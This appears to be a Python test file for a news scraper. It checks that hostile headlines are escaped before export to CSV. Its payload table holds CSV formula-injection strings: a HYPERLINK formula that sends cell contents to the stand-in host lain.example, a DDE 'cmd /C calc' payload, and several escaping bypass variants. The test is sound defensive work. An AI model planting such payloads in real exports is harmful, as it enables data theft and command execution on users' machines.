"""Headlines that a spreadsheet would compute, from the site's page to the exported cell."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from demo import EmbeddedNewsroom
from tests.crawling import crawl
from tests.forked import scrapy

FORMULAS = {
    '=HYPERLINK("http://lain.example/?a="&A2,"Klik")': "'=HYPERLINK(",
    "+62 811 Nomor Aduan Warga Dibuka": "'+62 811 Nomor Aduan Warga Dibuka",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|",
    "@SUM(1+1)*cmd": "'@SUM(1+1)*cmd",
    "\t=1+1 Harga Cabai": "'=1+1 Harga Cabai",
    "\r\n=1+2 Harga Cabai": "'=1+2 Harga Cabai",
    "\u200b=1+3 Harga Cabai": "'=1+3 Harga Cabai",
    "＝1+4 Harga Cabai": "'＝1+4 Harga Cabai",
    "<b></b>=1+5 Harga Cabai": "'=1+5 Harga Cabai",
}
"""Headline as the newsroom types it → how the cell has to begin."""


@pytest.mark.parametrize("source", ["page", "rest"])
def test_no_headline_of_a_hostile_newsroom_becomes_a_formula(
    newsroom: EmbeddedNewsroom, tmp_path: Path, source: str
) -> None:
    wanted = {}
    for entry, (title, cell) in zip(newsroom.articles, FORMULAS.items(), strict=False):
        newsroom.edit(entry.slug, title=title, silently=True)
        wanted[newsroom.url(entry.slug)] = cell
    ended = crawl(newsroom, tmp_path, "-a", f"source={source}")
    assert (ended.code, ended.run.new) == (0, 37)
    path = tmp_path / "berita.csv"
    options = ("-o", str(path), "-s", f"ARCHIVE_DIR={tmp_path}")
    assert scrapy("export", "progres", "--to", "csv", *options).returncode == 0
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = {row["url"]: row for row in csv.DictReader(file)}
    assert len(rows) == 37
    titles = {url: rows[url]["title"] for url in wanted}
    assert {url: titles[url][: len(cell)] for url, cell in wanted.items()} == wanted
    computed = tuple("=+-@\t\r\n＝＋－＠")
    assert not [
        cell for row in rows.values() for cell in row.values() if cell[:1] in computed and cell
    ]
